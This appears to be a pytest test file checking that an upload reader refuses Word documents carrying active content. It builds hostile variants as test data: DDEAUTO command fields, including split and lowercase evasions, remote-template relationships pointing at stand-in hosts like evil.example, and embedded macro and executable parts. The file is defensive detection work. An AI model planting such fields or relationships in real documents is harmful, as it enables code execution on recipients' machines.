"""Filled forms in which something active was put are refused, each with its reason (U4: fifty of fifty)."""

import zipfile

import pytest

from keqiao.core.forms.paper import paper_of
from keqiao.readers.forms.uploaded import pieces_of_upload
from keqiao.readers.unreadable import Unreadable
from keqiao.writers.forms.word import write_word
from tests.readers.hostile import OLE_HEAD
from tests.readers.word_files import OFFICE, PACKAGE
from tests.writers.forms.specifications import one_of_each_form

DOCUMENT, FOOTER, TYPES = "word/document.xml", "word/footer1.xml", "[Content_Types].xml"
RELATIONS = "word/_rels/document.xml.rels"
PARTS = {
    "macro": ["word/vbaProject.bin", "word/VBAPROJECT.BIN", "word/other/vbaProject.bin", "word/activeX/activeX1.bin"],
    "ole_object": [
        f"word/embeddings/{name}"
        for name in ("oleObject1.bin", "OLEOBJECT9.BIN", "setup.exe", "run.bat", "run.js", "a.vbs", "a.scr", "a.lnk")
    ],
}  # fmt: skip
TARGETS = (
    "http://evil.example/t.dotm",
    "https://evil.example/t.dotm",
    "ftp://evil.example/t.dotm",
    "\\\\evil\\share\\t.dotm",
    "//evil/t.dotm",
    "file://evil/t.dotm",
    "mhtml:http://evil.example/t",
)
FIELDS = {
    "whole": "<w:r><w:instrText>DDEAUTO cmd /k calc</w:instrText></w:r>",
    "plain": "<w:r><w:instrText>DDE excel a b</w:instrText></w:r>",
    "small letters": "<w:r><w:instrText> ddeauto cmd</w:instrText></w:r>",
    "in two runs": "<w:r><w:instrText> DDE</w:instrText></w:r><w:r><w:instrText>AUTO cmd</w:instrText></w:r>",
    "letter by letter": "".join(f"<w:r><w:instrText>{sign}</w:instrText></w:r>" for sign in "DDEAUTO"),
    "simple": '<w:fldSimple w:instr="DDEAUTO cmd"/>',
    "simple, small letters": '<w:fldSimple w:instr=" dde excel a b"/>',
}
BEGUN = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
MACRO_TYPES = (
    "application/vnd.ms-word.document.macroEnabled.main+xml",
    "application/vnd.ms-word.template.macroEnabledTemplate.main+xml",
)


def corpus():
    """(name, what is refused, part, how its bytes are made from those that are there)."""
    for code, names in PARTS.items():
        yield from ((name, code, name, lambda _: OLE_HEAD) for name in names)
    for kind in ("attachedTemplate", "oleObject", "frame", "subDocument"):
        for target in TARGETS:
            yield f"{kind} at {target}", "remote_template", RELATIONS, pointing(kind, target)
    for name, field in FIELDS.items():
        yield f"field, {name}", "dde", DOCUMENT, within(field)
    yield "field in the footer behind another", "dde", FOOTER, within(BEGUN + FIELDS["whole"])
    for content_type in MACRO_TYPES:
        yield content_type, "macro", TYPES, typed(content_type)


def pointing(kind, target):
    relation = f'<Relationship Id="evil" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="External"/>'
    return lambda there: there.replace(b"</Relationships>", f"{relation}</Relationships>".encode())


def within(field):
    return lambda there: there.replace(b"</w:p>", f"{field}</w:p>".encode(), 1)


def typed(content_type):
    default = f'<Default Extension="docm" ContentType="{content_type}"/>'
    return lambda there: there.replace(b"</Types>", f"{default}</Types>".encode())


CORPUS = {name: more for name, *more in corpus()}


@pytest.fixture(scope="module")
def filled(tmp_path_factory):
    path = tmp_path_factory.mktemp("filled") / "form.docx"
    specification, answers = one_of_each_form()[0]
    write_word(paper_of(specification, answers), path)
    with zipfile.ZipFile(path) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def saved(path, parts):
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return path


@pytest.mark.parametrize("name", CORPUS)
def test_a_filled_form_with_something_active_in_it_is_refused(tmp_path, filled, name):
    code, part, made = CORPUS[name]
    there = filled.get(part, b"")
    put = made(there)
    assert put != there

    with pytest.raises(Unreadable) as refusal:
        pieces_of_upload(saved(tmp_path / "form.docx", filled | {part: put}), name="申报书.docx")

    assert (refusal.value.code, refusal.value.values["name"]) == (f"unreadable.{code}", "申报书.docx")


def test_the_same_form_without_it_is_read(tmp_path, filled):
    assert len(pieces_of_upload(saved(tmp_path / "form.docx", filled)).pieces) > 100


def test_there_are_fifty_at_least():
    assert len(CORPUS) >= 50


def test_the_types_and_relations_that_are_changed_are_those_of_the_format(filled):
    assert PACKAGE.encode() in filled[TYPES]
    assert PACKAGE.encode() in filled[RELATIONS]
